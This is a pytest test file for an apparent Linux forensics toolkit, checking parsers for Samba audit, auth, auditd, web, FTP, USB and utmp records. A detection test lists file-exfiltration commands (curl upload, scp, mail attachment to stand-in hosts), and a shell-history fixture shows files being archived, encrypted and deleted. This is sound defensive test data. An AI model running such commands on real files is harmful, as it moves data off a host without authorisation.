from __future__ import annotations

import lzma
import struct

import pytest

from forensics.artifacts import Content
from forensics.artifacts.linux import (
    audit_log,
    auth_log,
    ftp_log,
    host_settings,
    kernel_usb,
    localtime,
    passwd,
    samba_audit,
    shell_history,
    smb_conf,
    system_log,
    utmp,
    web_log,
)  # fmt: skip
from forensics.artifacts.linux.commands import leaves
from forensics.artifacts.linux.syslog import entries
from forensics.artifacts.removable import os_traces
from forensics.artifacts.text import Reach, Record
from forensics.values import Interval, moment

AUDIT = """\
Dec 31 23:59:58 sv smbd_audit[22]: reidai|192.0.2.10|EXAMPLE-PC|office|openat|ok|r|住民/a|b.csv
Jan  1 00:00:02 sv smbd_audit[22]: reidai|192.0.2.10|EXAMPLE-PC|office|pwrite|ok|memo.txt
Jan  1 00:00:03 sv smbd_audit[22]: reidai|192.0.2.10|office|openat|fail (Permission denied)|r|x
Jan  1 00:00:04 sv smbd_audit[22]: reidai|192.0.2.10|office|fdopendir|ok|.
Jan  1 00:00:05 sv smbd_audit[22]: reidai|192.0.2.10|office|connect|ok|office
Jan  1 00:00:06 sv smbd_audit[22]: reidai|192.0.2.10|office|stat|ok|x
Jan  1 00:00:07 sv smbd[22]: something else
2022-06-21T19:30:00.5+09:00 sv smbd_audit: reidai|2001:db8::1|office|openat|ok|w|new.txt
no record at all
"""


def rows(parsed):
    return [row for row in parsed.traces if not row["kind"].startswith("log_")]


def test_samba_audit():
    data = AUDIT.encode()
    parsed = samba_audit.parse(Content(data, "/var/log/samba/audit.log"))
    found = rows(parsed)
    columns = ("kind", "account", "host", "path")
    assert [tuple(row[column] for column in columns) for row in found] == [
        ("file_read", "reidai", "EXAMPLE-PC", "住民/a|b.csv"),
        ("file_written", "reidai", "EXAMPLE-PC", "memo.txt"),
        ("access_failed", "reidai", "192.0.2.10", "x"),
        ("file_listed", "reidai", "192.0.2.10", "."),
        ("session_start", "reidai", "192.0.2.10", None),
        ("file_written", "reidai", "2001:db8::1", "new.txt"),
    ]
    assert [row["time"].basis for row in found] == ["local:noyear"] * 5 + ["utc"]
    assert str(moment(found[-1]["time"].start)) == "2022-06-21 10:30:00.500000+00:00"
    assert str(moment(found[0]["time"].start)) == "1972-12-31 23:59:58+00:00"
    assert found[0]["detail"] == "operation=openat;mode=r;share=office;client=192.0.2.10"
    assert found[1]["detail"].endswith(";turn=1")
    start, length = found[1]["at"]
    assert data[start : start + length].startswith(b"Jan  1 00:00:02")
    assert [(gap.length, gap.reason) for gap in parsed.gaps] == [(17, "NOT_A_RECORD")]


def test_span_tells_how_far_a_log_reaches():
    hour = 3_600_000_000
    times = [n * 2 * hour for n in range(24)] + [100 * hour, 102 * hour, 101 * hour]
    records = [Record(Interval(t, t + 1, "utc"), n, 1) for n, t in enumerate(times)]
    modified = Interval(103 * hour, 103 * hour + 1, "utc")
    log = Reach()
    for record in records:
        log.add(record)
    reach, first, last = log.rows(modified)
    assert reach["detail"] == (
        "last=1970-01-05T05:00:00.000000Z;records=27;usual_seconds=7200;gaps=1;"
        "silences=1970-01-02T22:00:00.000000Z~1970-01-05T04:00:00.000000Z;backward=1;"
        "file_modified=1970-01-05T07:00:00.000000Z"
    )
    assert (reach["time"].start, first["time"].start, last["time"].start) == (0, 0, 101 * hour)
    assert (first["record_number"], last["record_number"]) == (0, 26)
    assert Reach().rows() == []


def test_log_ons():
    log = """\
Mar 11 19:26:39 sv sshd[3]:  Accepted publickey for fred from 192.0.2.60 port 59229 ssh2
Mar 11 19:26:40 sv sshd[3]: pam_unix(sshd:session): session opened for user fred(uid=1) by (uid=0)
Mar 11 19:30:40 sv sshd[3]: pam_unix(sshd:session): session closed for user fred
Mar 11 22:55:32 sv sshd[4]: Failed password for invalid user bob from 188.124.3.41 port 1 ssh2
Mar 11 22:55:33 sv su[5]: pam_unix(su-l:session): session opened for user root(uid=0) by fred(uid=1)
Mar 11 22:55:34 sv CRON[6]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)
Mar 11 22:55:35 sv login[7]: pam_unix(login:session): session opened for user kei by LOGIN(uid=0)
"""
    parsed = auth_log.parse(Content(log.encode()))
    assert parsed.gaps == []
    assert [(row["kind"], row["account"], row.get("host")) for row in rows(parsed)] == [
        ("session_start", "fred", "192.0.2.60"),
        ("session_end", "fred", None),
        ("logon_failed", "bob", "188.124.3.41"),
        ("session_start", "root", None),
        ("session_start", "kei", None),
    ]
    kinds = [row["detail"].split(";")[0] for row in rows(parsed)]
    assert kinds == [
        "session=network",
        "session=network",
        "service=sshd",
        "session=su",
        "session=console",
    ]


def test_files_that_sftp_and_sudo_name():
    log = """\
Mar 11 19:26:39 sv internal-sftp[3]: session opened for local user fred from [192.0.2.60]
Mar 11 19:26:40 sv internal-sftp[3]: open "/srv/a b.csv" flags READ mode 0666
Mar 11 19:26:41 sv internal-sftp[3]: open "/srv/c.csv" flags WRITE,CREATE,TRUNCATE mode 0644
Mar 11 19:26:42 sv internal-sftp[3]: sent status No such file
Mar 11 19:27:00 sv sudo:     kei : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/cp a.csv /media/usb/
Mar 11 19:27:01 sv sudo:     kei : TTY=pts/0 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/ls /srv/a.csv
"""
    parsed = auth_log.parse(Content(log.encode()))
    assert [
        (row["kind"], row["account"], row.get("host"), row["path"]) for row in rows(parsed)
    ] == [
        ("file_read", "fred", "192.0.2.60", "/srv/a b.csv"),
        ("file_read", "kei", None, "/srv/a.csv"),
    ]


HISTORY = """\
ls
#1686330000
sudo tar czf /tmp/x.tgz '/srv/a b.csv' && rm /srv/a.csv
cat /srv/without_a_time.csv
#1686330060
cat notes.txt
: 1686330120:0;gpg -o /tmp/y -c /srv/c.csv; ls /srv
"""


def test_histories_of_shells():
    parsed = shell_history.parse(Content(HISTORY.encode(), "/home/kei/.bash_history"))
    found = [(row["time_raw"], row["account"], row["path"]) for row in parsed.traces]
    assert found == [
        ("1686330000", "kei", "/tmp/x.tgz"), ("1686330000", "kei", "/srv/a b.csv"),
        (None, "kei", "/srv/without_a_time.csv"),
        ("1686330120", "kei", "/tmp/y"), ("1686330120", "kei", "/srv/c.csv"),
    ]  # fmt: skip
    assert {row["kind"] for row in parsed.traces} == {"file_read"}
    assert shell_history.parse(Content(b"#1\n'", "/root/.bash_history")).traces == []


def test_commands_that_take_a_file_elsewhere():
    away = (
        "cp /srv/a.csv /media/usb0/", "scp /srv/a.csv kei@192.0.2.9:", "cat /srv/a.csv > /mnt/x", "rsync -a /srv/a.csv nas:/x",
        "curl -F f=@/srv/a.csv https://example.com/", "dd if=/srv/a.csv of=/run/media/kei/D/a", "mail -a /srv/a.csv x@example.com",
    )  # fmt: skip
    here = (
        "cp /srv/a.csv /tmp/",
        "cat /srv/a.csv",
        "tar czf /tmp/x.tgz /srv/a.csv",
        "curl http://localhost:80/",
    )
    assert [line for line in (*away, *here) if leaves(line)] == [*away]


def test_usb_storage_in_kernel_lines():
    log = """\
Jun 21 10:00:00 sv kernel: [  1.0] usb 1-1.2: New USB device found, idVendor=0951, idProduct=1666, bcdDevice= 1.00
Jun 21 10:00:00 sv kernel: [  1.1] usb 1-1.2: Product: DataTraveler 3.0
Jun 21 10:00:00 sv kernel: [  1.2] usb 1-1.2: Manufacturer: Kingston
Jun 21 10:00:00 sv kernel: [  1.3] usb 1-1.2: SerialNumber: ex0123
Jun 21 10:00:01 sv kernel: [  2.0] usb-storage 1-1.2:1.0: USB Mass Storage device detected
Jun 21 10:00:02 sv kernel: [  3.0] usb 2-1: New USB device found, idVendor=046d, idProduct=c31c
Jun 21 10:00:03 sv kernel: [  4.0] usb 2-1: USB disconnect, device number 3
Jun 21 11:00:00 sv kernel: [ 99.0] usb 1-1.2: USB disconnect, device number 5
"""
    parsed = kernel_usb.parse(Content(log.encode()))
    assert [
        (row["kind"], row["medium_serial"], row["label"], row["time_raw"]) for row in rows(parsed)
    ] == [
        ("device_connected", "EX0123", "Kingston DataTraveler 3.0", "Jun 21 10:00:00"),
        ("device_removed", "EX0123", "Kingston DataTraveler 3.0", "Jun 21 11:00:00"),
    ]


def test_starts_stops_and_clock_changes():
    log = """\
Jun 21 10:00:00 sv kernel: [    0.000000] Linux version 5.10.0
Jun 21 10:05:00 sv systemd[1]: Time has been changed
Jun 21 11:00:00 sv systemd-shutdown[1]: Syncing filesystems and block devices.
"""
    parsed = system_log.parse(Content(log.encode()))
    assert [row["kind"] for row in rows(parsed)] == [
        "host_started",
        "clock_changed",
        "host_stopped",
    ]


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("chronyd[600]: System clock was stepped by -259200.123456 seconds", [("clock_changed", "root")]),
        ("ntpd[7]: time reset +86400.1 s", [("clock_changed", "root")]),
        ("ntpdate[7]: step time server 192.0.2.1 offset 3600.5 sec", [("clock_changed", "root")]),
        ("chronyd[600]: System clock was stepped by 0.412 seconds", []),
    ],
)  # fmt: skip
def test_steps_of_time_services(line, told):
    parsed = system_log.parse(Content(f"Jun 21 10:00:00 sv {line}\n".encode()))
    assert [(row["kind"], row["account"]) for row in rows(parsed)] == told


def _audited(serial: int, call: str, *paths: str) -> str:
    head = f"msg=audit(1686404467.123:{serial}):"
    named = "".join(
        f"type=PATH {head} item={n} name={path} inode=9 nametype=NORMAL\n"
        for n, path in enumerate(paths)
    )
    return f'type=SYSCALL {head} arch=c000003e {call} exe="/usr/bin/cp" key="k"\ntype=CWD {head} cwd="/srv"\n{named}'


AUDITD = (
    _audited(1, "syscall=257 success=yes a2=0 auid=1002 uid=0", '"/srv/a.csv"')
    + _audited(2, "syscall=2 success=yes a1=241 auid=4294967295 uid=33", "E5908D2E637376")
    + _audited(3, "syscall=257 success=no a2=0 auid=1002 uid=1002", '"b.csv"')
    + _audited(4, "syscall=59 success=yes a2=0 auid=1002 uid=1002", '"/usr/bin/cp"')
    + 'type=EXECVE msg=audit(1686404467.123:5): argc=3 a0="cp" a1="/srv/c.csv" a2="/media/usb/"\n'
)


def test_files_that_the_audit_daemon_names():
    parsed = audit_log.parse(Content(f"{AUDITD}no record\n".encode()))
    assert [(row["kind"], row["account"], row["path"]) for row in rows(parsed)] == [
        ("file_read", "uid:1002", "/srv/a.csv"),
        ("file_written", "uid:33", "/srv/名.csv"),
        ("access_failed", "uid:1002", "/srv/b.csv"),
        ("file_read", None, "/srv/c.csv"),
    ]
    assert "leaves=yes" in rows(parsed)[-1]["detail"]
    assert str(moment(rows(parsed)[0]["time"].start)) == "2023-06-10 13:41:07.123000+00:00"
    assert [gap.reason for gap in parsed.gaps] == ["NOT_A_RECORD"]


WEB = """\
192.0.2.9 - - [10/Jun/2023:23:11:05 +0900] "GET /kyufu/%E5%90%8D%E7%B0%BF.csv?x=1 HTTP/1.1" 200 48211 "-" "curl"
www.example.jp:443 pool-7.example.com - kei [10/Jun/2023:14:11:05 +0000] "POST /dl.php?f=srv/a.csv&n=3 HTTP/2.0" 206 9 "-" "M"
192.0.2.9 - - [10/Jun/2023:23:11:05 +0900] "GET /kyufu/a.csv HTTP/1.1" 404 12
192.0.2.9 - - [10/Xyz/2023:23:11:05 +0900] "GET /a HTTP/1.1" 200 12
"""


def test_requests_of_a_web_server():
    parsed = web_log.parse(Content(WEB.encode()))
    assert [(row["kind"], row["account"], row["path"], row["size"]) for row in rows(parsed)] == [
        ("file_read", None, "/kyufu/名簿.csv", 48211),
        ("file_read", "kei", "/dl.php", 9),
        ("file_read", "kei", "/srv/a.csv", 9),
    ]
    assert [row["host"] for row in rows(parsed)] == ["192.0.2.9", None, None]
    times = {row["time"] for row in rows(parsed)}
    assert {str(moment(time.start)) for time in times} == {"2023-06-10 14:11:05+00:00"}
    assert [gap.reason for gap in parsed.gaps] == ["NOT_A_RECORD"]


@pytest.mark.parametrize("log", [audit_log, web_log, auth_log])
def test_a_run_of_lines_that_are_no_records_is_one_gap(log):
    parsed = log.parse(Content(b"systemd sshd no record\n" * 100))
    assert [(gap.start, gap.length) for gap in parsed.gaps] == [(0, 2300)]


def test_ftp_transfers():
    log = """\
Mon Jun  6 18:43:32 2016 [pid 1] [jean] OK LOGIN: Client "192.168.1.9"
Mon Jun  6 18:43:59 2016 [pid 3] [jean] OK UPLOAD: Client "192.168.1.9", "/home/a, b.png", 188 bytes, 4.4Kbyte/sec
Mon Jun  6 18:44:19 2016 [pid 3] [jean] FAIL DOWNLOAD: Client "192.168.1.9", "/home/T*", 0.00Kbyte/sec
Thu Sep  2 09:52:00 2004 1 192.168.20.10 896242 /home/a b.tgz b _ o r suzanne ftp 0 * c
Xyz Sep 99 09:52:00 2004 1 192.168.20.10 896242 /home/a b.tgz b _ o r suzanne ftp 0 * c
"""
    parsed = ftp_log.parse(Content(log.encode()))
    assert [(row["kind"], row["account"], row["path"], row["size"]) for row in rows(parsed)] == [
        ("session_start", "jean", None, None),
        ("file_written", "jean", "/home/a, b.png", 188),
        ("access_failed", "jean", "/home/T*", None),
        ("file_read", "suzanne", "/home/a b.tgz", 896242),
    ]
    assert [gap.reason for gap in parsed.gaps] == ["NOT_A_RECORD"]


def test_settings():
    def named(parsed):
        return [(row["name"], row["value"]) for row in parsed.settings]

    assert named(host_settings.parse(Content(b"sv1\n", "/etc/hostname"))) == [("hostname", "sv1")]
    assert named(host_settings.parse(Content(b"Asia/Tokyo\n", "/etc/timezone"))) == [
        ("zone", "Asia/Tokyo")
    ]
    bad = host_settings.parse(Content(b"\x00\xff <b>\n", "/etc/hostname"))
    assert (bad.settings, [gap.reason for gap in bad.gaps]) == ([], ["NOT_A_NAME"])
    rule = localtime.parse(Content(b"TZif2" + bytes(80) + b"\nJST-9\n", "/etc/localtime"))
    assert named(rule) == [("zone_posix", "JST-9"), ("zone", "Asia/Tokyo")]
    rule = localtime.parse(Content(b"TZif2" + bytes(80) + b"\nCET-1CEST,M3.5.0,M10.5.0/3\n"))
    assert named(rule) == [("zone_posix", "CET-1CEST,M3.5.0,M10.5.0/3")]
    assert localtime.parse(Content(b"TZif2")).gaps
    conf = b"[global]\n full_audit:success = openat\n[office]\n path = /srv/office\n vfs objects = recycle full_audit\n; path = /no\n"
    assert named(smb_conf.parse(Content(conf))) == [
        ("samba_full_audit_success", "openat"),
        ("share_path", "office=/srv/office"),
        ("samba_full_audit", "yes"),
    ]
    users = passwd.parse(Content(b"kei:x:1000:1000:,,,:/home/kei:/bin/sh\nrubbish\n"))
    assert named(users) == [("user", "1000=/home/kei"), ("user_name", "1000=kei")]
    assert [tuple(gap) for gap in users.gaps] == [(38, 8, "NOT_A_RECORD")]


@pytest.mark.parametrize(
    ("path", "system"),
    [
        ("/System Volume Information/IndexerVolumeGuid", "windows"),
        ("/System Volume Information/WPSettings.dat", "windows"),
        ("/System Volume Information/tracking.log", None),
        ("/.fseventsd/fseventsd-uuid", "macos"),
        ("/住民/._list.csv", "macos"),
        ("/.DS_Store", "macos"),
        ("/LOST.DIR", "android"),
        ("/.Trash-1000/info", "linux"),
        ("/data/list.csv", None),
    ],
)
def test_what_systems_leave_on_a_medium(path, system):
    born = Interval(5, 6, "local:unknown")
    parsed = os_traces.parse(Content(b"", path, {"born": born}))
    found = [(row["kind"], row["time"], row["detail"]) for row in parsed.traces]
    assert found == ([("medium_mounted", born, f"system={system}")] if system else [])


@pytest.mark.image
def test_records_of_real_logs(shared):
    folder = shared / "corpus/artifacts/linux"
    counts = {"syslog": (16, 1), "syslog_cron.log": (9, 0), "syslog_ssh.log": (9, 0)}
    for name, (records, gaps_wanted) in counts.items():
        gaps = []
        found = list(entries((folder / name).read_bytes(), gaps))
        assert (len(found), len(gaps)) == (records, gaps_wanted), name
    parsed = ftp_log.parse(Content((folder / "vsftpd.log").read_bytes()))
    assert "records=25;" in parsed.traces[-3]["detail"]
    assert parsed.gaps == []


def test_a_screen_of_the_host_is_its_console():
    def record(kind: int, host: bytes) -> bytes:
        head = (
            bytes([kind, 0, 0, 0])
            + b"\1\0\0\0"
            + b"tty7".ljust(36, b"\0")
            + b"kei".ljust(32, b"\0")
        )
        return (head + host.ljust(264, b"\0") + struct.pack("<ii", 1_655_526_400, 0)).ljust(
            384, b"\0"
        )

    data = record(7, b":0") + record(7, b"192.0.2.1") + record(2, b"5.10.0-amd64")
    rows = utmp.parse(Content(data, "/var/log/wtmp")).traces[:3]
    assert [(row["kind"], row["host"], row["detail"]) for row in rows] == [
        ("session_start", ":0", "line=tty7;pid=1;session=console"),
        ("session_start", "192.0.2.1", "line=tty7;pid=1;session=network"),
        ("host_started", None, "line=tty7;pid=1"),
    ]


@pytest.mark.image
def test_records_of_real_utmp(shared):
    expected = {  # records with a time, gaps; utmpdump also counts the empty ones
        "artifacts/linux/utmp": (14, []),
        "artifacts/linux/wtmp.1": (2, ["TRUNCATED"]),
        "artifacts/linux/utmp_s390": (6, []),
        "artifacts/linux/DebianUtmp": (10, []),
        "artifacts/linux/wtmp-sparc-be.xz": (100, []),
        "malformed/misc/utmp_corrupted": (2, ["RECORD_TYPE", "RECORD_TYPE", "TRUNCATED"]),
    }
    for path, (count, gaps) in expected.items():
        data = (shared / "corpus" / path).read_bytes()
        data = lzma.decompress(data) if path.endswith(".xz") else data
        parsed = utmp.parse(Content(data, "/var/log/" + path.rsplit("/", 1)[1]))
        (reach,) = [row for row in parsed.traces if row["kind"] == "log_span"]
        assert f"records={count};" in reach["detail"], (path, reach["detail"])
        assert [gap.reason for gap in parsed.gaps] == gaps, path
    data = (shared / "corpus/artifacts/linux/utmp").read_bytes()
    first = utmp.parse(Content(data, "/var/log/wtmp")).traces[0]
    assert (first["kind"], str(moment(first["time"].start))) == (
        "host_started", "2013-12-13 14:45:09.688666+00:00",
    )  # fmt: skip
